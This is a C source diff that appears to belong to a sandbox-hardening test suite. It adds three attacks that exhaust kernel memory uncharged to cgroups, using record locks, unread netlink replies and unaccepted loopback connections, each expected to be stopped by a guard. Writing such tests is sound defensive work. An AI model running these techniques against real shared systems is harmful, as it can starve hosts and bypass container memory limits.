@@ -1,0 +1,111 @@
+// Memory of the kernel, held for a process and charged to nobody: what cgroups of either version do not count.
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
+#include <netinet/in.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include "knock.h"
+
+enum { kMiB = 1 << 20, kProcesses = 8, kHoldMs = 600, kLockBytes = 192, kReplyBytes = 2048 };
+
+static enum outcome hold(struct attempt* attempt, long wanted, long (*take)(long), const char* what) {
+  const long held = in_processes(attempt->stage, kProcesses, wanted, kHoldMs, take);
+  if (held < wanted) return refused(attempt, what);
+  char text[80];
+  snprintf(text, sizeof text, "%ld MiB as %s", held / kMiB, what);
+  return worked(attempt, text);
+}
+
+static long beyond(const struct attempt* attempt) {
+  const long limit = attempt->stage->memory > 0 ? attempt->stage->memory : 64L * kMiB;
+  return limit + limit / 2;
+}
+
+// Many files with a few hundred each: the kernel walks through all locks of a file for each new one.
+static const char* scratch;
+static long take_locks(long wanted) {
+  const int per_file = 500;
+  long held = 0;
+  for (int files = 0; held < wanted; ++files) {
+    char name[256];
+    snprintf(name, sizeof name, "%s/belljar-locks-%d-%d", scratch, (int)getpid(), files);
+    const int fd = open(name, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
+    if (fd < 0) return held;
+    unlink(name);
+    for (int i = 0; i < per_file; ++i) {
+      struct flock lock = {.l_type = F_RDLCK, .l_whence = SEEK_SET, .l_start = 2L * (per_file - i), .l_len = 1};
+      if (fcntl(fd, F_SETLK, &lock) != 0) return held;
+      held += kLockBytes;
+    }
+  }
+  return held;
+}
+static enum outcome run_d56_locks(struct attempt* attempt) {
+  scratch = attempt->stage->scratch != NULL ? attempt->stage->scratch : "/tmp";
+  return hold(attempt, 36L * kMiB, take_locks, "record locks");  // more would take its time
+}
+ATTACK(d56_locks, "D56h", "record-locks", "make the kernel hold it as record locks", "memory limit", ENDED_BY_GUARD);
+
+// Each question is answered into the asker's own buffer, which it does not read.
+static long take_replies(long wanted) {
+  struct {
+    struct nlmsghdr head;
+    struct ifinfomsg body;
+  } question = {.head = {.nlmsg_len = sizeof question, .nlmsg_type = RTM_GETLINK, .nlmsg_flags = NLM_F_REQUEST},
+                .body = {.ifi_index = 1}};
+  long held = 0;
+  while (held < wanted) {
+    const int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
+    if (fd < 0) return held;
+    for (int i = 0; i < 1000 && send(fd, &question, sizeof question, MSG_DONTWAIT) > 0; ++i) {
+      char byte;
+      if (recv(fd, &byte, 1, MSG_PEEK | MSG_DONTWAIT | MSG_TRUNC) <= 0) break;
+      held += kReplyBytes;
+    }
+  }
+  return held;
+}
+static enum outcome run_d56_netlink(struct attempt* attempt) {
+  return hold(attempt, beyond(attempt), take_replies, "replies in netlink sockets");
+}
+ATTACK(d56_netlink, "D56i", "netlink-replies", "make the kernel hold it as replies that nobody reads", "memory limit?",
+       ENDED_BY_GUARD);
+
+static int listen_on_loopback(struct sockaddr_in* address) {
+  socklen_t length = sizeof *address;
+  memset(address, 0, sizeof *address);
+  address->sin_family = AF_INET;
+  address->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  if (fd < 0 || bind(fd, (struct sockaddr*)address, length) != 0 || listen(fd, 4096) != 0) return -1;
+  return getsockname(fd, (struct sockaddr*)address, &length) == 0 ? fd : -1;
+}
+
+// The far end of a connection that nobody has accepted belongs to no process, and the near end is closed.
+static long take_unaccepted(long wanted) {
+  static char block[60000];
+  struct sockaddr_in address;
+  if (listen_on_loopback(&address) < 0) return 0;
+  long held = 0;
+  while (held < wanted) {
+    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
+    if (fd < 0) return held;
+    connect(fd, (struct sockaddr*)&address, sizeof address);
+    const ssize_t sent = send(fd, block, sizeof block, MSG_DONTWAIT | MSG_NOSIGNAL);
+    close(fd);
+    if (sent > 0) held += sent;
+    if (sent <= 0 && listen_on_loopback(&address) < 0) return held;  // that one is full
+  }
+  return held;
+}
+static enum outcome run_d56_unaccepted(struct attempt* attempt) {
+  return hold(attempt, beyond(attempt), take_unaccepted, "connections that nobody accepts");
+}
+ATTACK(d56_unaccepted, "D56j", "unaccepted-connections", "make the kernel hold it in connections nobody accepts",
+       "memory limit?", ENDED_BY_GUARD);
